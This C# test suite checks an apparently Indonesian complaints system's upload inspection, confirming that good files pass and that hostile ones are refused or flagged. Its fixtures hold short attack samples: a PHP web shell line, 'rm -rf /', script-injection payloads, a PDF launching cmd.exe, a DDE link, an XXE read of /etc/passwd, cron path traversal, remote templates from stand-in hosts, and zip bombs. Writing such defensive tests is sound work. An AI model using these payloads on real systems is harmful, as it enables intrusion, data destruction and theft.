using System.Text;
using CsCheck;
using Padu.Documents;
using Padu.Domain.Complaints;
using Padu.Web;

namespace Padu.Tests.Documents;

public sealed class FileInspectionTests
{
    public static TheoryData<string> Extensions => [.. FileKind.All.SelectMany(kind => kind.Extensions)];

    [Theory]
    [MemberData(nameof(Extensions))]
    public async Task A_good_file_is_taken_as_what_it_is(string extension)
    {
        var kind = FileKind.All.Single(one => one.Extensions.Contains(extension));
        var found = await Inspect(SampleFiles.All[kind], $"bukti{extension.ToUpperInvariant()}");

        Assert.Null(found.Refusal);
        Assert.Same(kind, found.Kind);
        Assert.Empty(found.Cautions);
    }

    [Theory]
    [InlineData("isom", ".m4a", "audio/mp4")]
    [InlineData("mp42", ".m4a", "audio/mp4")]
    [InlineData("3gp4", ".m4a", "audio/mp4")]
    [InlineData("3gp5", ".mp4", "video/mp4")]
    public async Task A_telephones_recording_is_sound_where_its_name_says_so(string brand, string extension, string mediaType)
    {
        byte[] file = [.. SampleFiles.Box("ftyp", $"{brand}\0\0\0\0"), .. SampleFiles.Box("moov", ""), .. SampleFiles.Box("mdat", "suara")];

        Assert.Equal(mediaType, (await Inspect(file, $"rekaman{extension}")).Kind?.MediaType);
    }

    public static TheoryData<string, string, string> Hostile => [.. HostileFiles.All.Select(one => (one.What, one.Name, one.Code))];

    [Theory]
    [MemberData(nameof(Hostile))]
    public async Task A_hostile_file_is_refused_by_its_code_and_a_sentence(string what, string name, string code)
    {
        var found = await Inspect(HostileFiles.All.Single(one => one.What == what).Bytes(), name);

        Assert.Equal(code, found.Refusal?.Code);
        foreach (var language in new[] { Languages.Indonesian, Languages.English })
        {
            Assert.Contains("surat.pdf", new Texts().In(language)[$"refusal.{code}", ["surat.pdf", .. found.Refusal!.Parameters]]);
        }
    }

    [Theory]
    [InlineData("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>")]
    [InlineData("/AA << /S /J#61vaScript >>")]
    public async Task A_pdf_that_runs_something_is_taken_and_says_so(string more) =>
        Assert.Equal([FileCaution.Script], (await Inspect(SampleFiles.Pdf(more), "surat.pdf")).Cautions);

    [Fact]
    public async Task What_a_pdf_runs_is_seen_also_in_packed_objects() =>
        Assert.Equal([FileCaution.Script], (await Inspect(SampleFiles.PackedPdf("<< /S /JavaScript >>"), "surat.pdf")).Cautions);

    [Fact]
    public async Task A_document_that_loads_a_picture_from_elsewhere_is_taken_and_says_so()
    {
        var file = SampleFiles.Docx(("word/_rels/header1.xml.rels", SampleFiles.Relations("image", "http://pelacak.example/1.png")));

        Assert.Equal([FileCaution.ExternalContent], (await Inspect(file, "surat.docx")).Cautions);
    }

    /// <summary>Memory and reading are bounded by what is looked at, not by what a file says of itself.</summary>
    [Theory]
    [InlineData("a picture of 2,500 megapixels", 16_000, 64_000)]
    [InlineData("a document that unpacks to 200 MB", 1_500_000, 3_000_000)]
    [InlineData("a directory of 3,000 parts", 16_000, 64_000)]
    [InlineData("a directory that lies about its size", 16_000, 64_000)]
    public void A_bomb_is_refused_before_it_goes_off(string what, long mostRead, long mostAllocated)
    {
        var one = HostileFiles.All.Single(one => one.What == what);
        using var content = new CountingStream(one.Bytes());
        // Once to load the code.
        _ = FileInspection.Inspect(content, one.Name, CancellationToken.None);
        content.Taken = 0;
        var before = GC.GetAllocatedBytesForCurrentThread();
        var looked = FileInspection.Inspect(content, one.Name, CancellationToken.None);
        var allocated = GC.GetAllocatedBytesForCurrentThread() - before;

        Assert.True(looked.IsCompletedSuccessfully, "Nothing here waits, so all was done on this thread.");
        Assert.InRange(content.Taken, 1, mostRead);
        Assert.InRange(allocated, 0, mostAllocated);
    }

    [Fact]
    public void Any_bytes_under_any_name_are_taken_or_refused_and_never_throw()
    {
        var heads = SampleFiles.All.Values.Select(bytes => bytes[..Math.Min(bytes.Length, 40)]).Append([]).ToArray();
        var ends = FileKind.All.SelectMany(kind => kind.Extensions).ToArray();
        var names = Gen.OneOf(Gen.Int[0, ends.Length - 1].Select(i => $"a{ends[i]}"), Gen.String);
        Gen.Select(Gen.Int[0, heads.Length - 1], Gen.Byte.Array[0, 3_000], names)
            .Sample((head, tail, name) => Holds([.. heads[head], .. tail], name), iter: 4_000);
    }

    [Fact]
    public void A_good_file_with_bytes_changed_or_cut_off_never_throws()
    {
        var files = SampleFiles.All.ToArray();
        Gen.Select(Gen.Int[0, files.Length - 1], Gen.Select(Gen.Int[0, 100_000], Gen.Byte).Array[0, 12], Gen.Int[0, 100_000])
            .Sample(
                (which, changes, cut) =>
                {
                    var (kind, good) = files[which];
                    var bytes = (byte[])good.Clone();
                    foreach (var (at, value) in changes)
                    {
                        bytes[at % bytes.Length] = value;
                    }

                    return Holds(cut % 3 == 0 ? bytes[..(cut % bytes.Length)] : bytes, $"a{kind.Extensions[0]}");
                },
                iter: 4_000
            );
    }

    private static bool Holds(byte[] bytes, string name)
    {
        using var content = new MemoryStream(bytes);
        var looked = FileInspection.Inspect(content, FileNames.Clean(name), CancellationToken.None);
        return looked.IsCompletedSuccessfully && content.Position == 0 && looked.Result.Kind is null == looked.Result.Refusal is not null;
    }

    internal static Task<Inspected> Inspect(byte[] bytes, string name) =>
        FileInspection.Inspect(new MemoryStream(bytes), name, TestContext.Current.CancellationToken);

    private sealed class CountingStream(byte[] bytes) : MemoryStream(bytes)
    {
        public long Taken { get; set; }

        public override int Read(Span<byte> buffer) => Count(base.Read(buffer));

        public override ValueTask<int> ReadAsync(Memory<byte> buffer, CancellationToken cancellationToken = default) =>
            ValueTask.FromResult(Count(base.Read(buffer.Span)));

        private int Count(int count)
        {
            Taken += count;
            return count;
        }
    }
}

/// <summary>Files somebody might send to harm a server, an officer or a colleague.</summary>
internal sealed record HostileFile(string What, string Name, string Code, Func<byte[]> Bytes);

internal static class HostileFiles
{
    public static IReadOnlyList<HostileFile> All { get; } =
    [
        new("nothing", "a.jpg", "evidence.empty", () => []),
        new("a page in a photo's name", "a.jpg", "evidence.script", () => Ascii("<html><script>alert(1)</script>")),
        new("a page in a text's name", "a.txt", "evidence.script", () => Ascii("halo <SCRIPT src=x>")),
        new(
            "a page in sixteen bits",
            "a.txt",
            "evidence.script",
            () => Encoding.Unicode.GetPreamble().Concat(Encoding.Unicode.GetBytes("<html>")).ToArray()
        ),
        new(
            "a drawing with a script",
            "a.svg",
            "evidence.script",
            () => Ascii("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>")
        ),
        new("a drawing behind its declaration", "a.png", "evidence.script", () => Ascii("<?xml version='1.0'?><svg/>")),
        new("a script for a server", "a.txt", "evidence.script", () => Ascii("x <?php system($_GET[0]);")),
        new("a script for a shell", "a.txt", "evidence.program", () => Ascii("#!/bin/sh\nrm -rf /")),
        new("a program for Windows", "surat.pdf", "evidence.program", () => [.. "MZ\u0090\0\u0003"u8, .. new byte[200]]),
        new("a program for Linux", "a.mp3", "evidence.program", () => [.. "\u007fELF"u8, 2, 1, 1, .. new byte[60]]),
        new("a picture that is a script", "a.gif", "evidence.script", () => Ascii("GIF89a=1;/*<script>*/alert(1)")),
        new("a picture of a kind not taken", "a.gif", "evidence.kind-not-accepted", () => [.. "GIF89a"u8, 1, 0, 1, 0, 0, 0, 0]),
        new("a photo of an iPhone", "a.heic", "evidence.heic", () => SampleFiles.Box("ftyp", "heic\0\0\0\0mif1")),
        new(
            "a script with a photo's first bytes",
            "a.jpg",
            "evidence.damaged",
            () => [0xFF, 0xD8, 0xFF, .. Ascii("<?php system('id'); ?>")]
        ),
        new("a photo in a document's name", "a.pdf", "evidence.name-disagrees", () => SampleFiles.All[FileKind.Jpeg]),
        new("a film in a photo's name", "a.jpg", "evidence.name-disagrees", () => SampleFiles.All[FileKind.Mp4]),
        new("a picture of 2,500 megapixels", "a.png", "evidence.picture-too-large", () => SampleFiles.PngOf(50_000, 50_000)),
        new("a picture of no size", "a.png", "evidence.damaged", () => SampleFiles.PngOf(0, 10)),
        new("a long thin picture", "a.png", "evidence.picture-too-large", () => SampleFiles.PngOf(20_001, 1)),
        new("a PDF that is an archive", "a.pdf", "evidence.polyglot", () => [.. SampleFiles.Pdf(), .. SampleFiles.Zip(("a.html", "x"))]),
        new(
            "a PDF that starts a program",
            "a.pdf",
            "evidence.active-pdf",
            () => SampleFiles.Pdf("/OpenAction << /S /L#61unch /F (cmd.exe) >>")
        ),
        new("a PDF that brings a file", "a.pdf", "evidence.active-pdf", () => SampleFiles.Pdf("/Names << /EmbeddedFiles 3 0 R >>")),
        new("a PDF that brings one in packed objects", "a.pdf", "evidence.active-pdf", () => SampleFiles.PackedPdf("<< /S /Launch >>")),
        new("a PDF that was cut off", "a.pdf", "evidence.damaged", () => SampleFiles.Pdf()[..60]),
        new("an archive", "a.docx", "evidence.archive", () => SampleFiles.Zip(("a.txt", "x"))),
        new("an archive of another kind", "a.docx", "evidence.archive", () => [.. "Rar!\u001a\u0007\0"u8, .. new byte[40]]),
        new("a document with an archive behind it", "a.docx", "evidence.polyglot", () => [.. SampleFiles.Docx(), .. Ascii("<script>")]),
        new("a sheet in a document's name", "a.docx", "evidence.name-disagrees", () => SampleFiles.Xlsx()),
        new("a document with macros", "a.docx", "evidence.macro", () => SampleFiles.Docx(("word/vbaProject.bin", "x"))),
        new(
            "a macro document renamed",
            "a.docx",
            "evidence.macro",
            () =>
                SampleFiles.Zip(
                    ("[Content_Types].xml", SampleFiles.Types("application/vnd.ms-word.document.macroEnabled.main+xml")),
                    ("word/document.xml", "<a/>")
                )
        ),
        new(
            "an old document inside",
            "a.docx",
            "evidence.macro",
            () => SampleFiles.Docx(("word/media/a.png", "\u00d0\u00cf\u0011\u00e0\u00a1\u00b1\u001a\u00e1"))
        ),
        new("an old document", "a.doc", "evidence.old-office", () => [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. new byte[60]]),
        new("a document with a program", "a.docx", "evidence.program", () => SampleFiles.Docx(("word/media/a.png", "MZ\u0090\0"))),
        new(
            "a document with an archive",
            "a.docx",
            "evidence.nested",
            () => SampleFiles.Docx(("word/embeddings/a.xlsx", Encoding.Latin1.GetString(SampleFiles.Xlsx())))
        ),
        new(
            "a document with a template elsewhere",
            "a.docx",
            "evidence.remote",
            () =>
                SampleFiles.Docx(("word/_rels/settings.xml.rels", SampleFiles.Relations("attachedTemplate", "http://jahat.example/a.dotm")))
        ),
        new(
            "a sheet that asks a program",
            "a.xlsx",
            "evidence.remote",
            () => SampleFiles.Xlsx(("xl/externalLinks/externalLink1.xml", "<externalLink><ddeLink ddeService=\"cmd\"/></externalLink>"))
        ),
        new("a document with a path out of it", "a.docx", "evidence.damaged", () => SampleFiles.Docx(("../../etc/cron.d/a", "x"))),
        new(
            "a document with an entity",
            "a.docx",
            "evidence.damaged",
            () => SampleFiles.Docx(("word/_rels/b.rels", "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>"))
        ),
        new(
            "a text with a macro",
            "a.odt",
            "evidence.macro",
            () => SampleFiles.OpenDocument(FileKind.Odt, "<a><script:event-listener xmlns:script=\"s\"/></a>")
        ),
        new(
            "a text with an object elsewhere",
            "a.odt",
            "evidence.remote",
            () => SampleFiles.OpenDocument(FileKind.Odt, "<a><object href=\"smb://jahat/a\"/></a>")
        ),
        new(
            "a document that unpacks to 200 MB",
            "a.docx",
            "evidence.bomb",
            () => SampleFiles.Pack([.. Parts(), ("word/media/a.bmp", new byte[200_000_000])])
        ),
        new(
            "a directory of 3,000 parts",
            "a.docx",
            "evidence.bomb",
            () => SampleFiles.Pack([.. Parts(), .. Enumerable.Range(0, 3_000).Select(i => ($"word/{i}", Array.Empty<byte>()))])
        ),
        new("a directory that lies about its size", "a.docx", "evidence.polyglot", LyingDirectory),
        new("a film with a page behind it", "a.mp4", "evidence.damaged", () => [.. SampleFiles.All[FileKind.Mp4], .. Ascii("<html>")]),
        new("a film without tracks", "a.mp4", "evidence.damaged", () => SampleFiles.Box("ftyp", "isom\0\0\0\0")),
        new(
            "a sound that is something else",
            "a.mp3",
            "evidence.damaged",
            () => [.. "ID3\u0003\0\0\0\0\0\0"u8, .. Ascii("<script>alert(1)</script>")]
        ),
        new("a sound with something behind it", "a.wav", "evidence.damaged", () => [.. SampleFiles.All[FileKind.Wav], .. new byte[50]]),
        new("a container of no sound", "a.ogg", "evidence.damaged", () => [.. "OggS\0\u0002"u8, .. new byte[60]]),
        new("a text with bytes of no text", "a.txt", "evidence.kind-not-accepted", () => [.. Ascii("halo"), 0, 1, 2]),
        new("a text with such bytes far behind", "a.txt", "evidence.not-text", () => [.. Enumerable.Repeat((byte)'a', 70_000), 0xC3, 0x28]),
        new("a text of eleven megabytes", "a.txt", "evidence.too-large", () => [.. Enumerable.Repeat((byte)'a', 11 * 1024 * 1024)]),
    ];

    private static byte[] Ascii(string text) => Encoding.Latin1.GetBytes(text);

    private static (string, byte[])[] Parts() =>
        [
            (
                "[Content_Types].xml",
                Ascii(SampleFiles.Types("application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"))
            ),
            ("word/document.xml", Ascii("<a/>")),
        ];

    /// <summary>One part told, whose directory would begin before the file does.</summary>
    private static byte[] LyingDirectory()
    {
        var good = SampleFiles.Docx();
        good[^10] ^= 0x40;
        return good;
    }
}
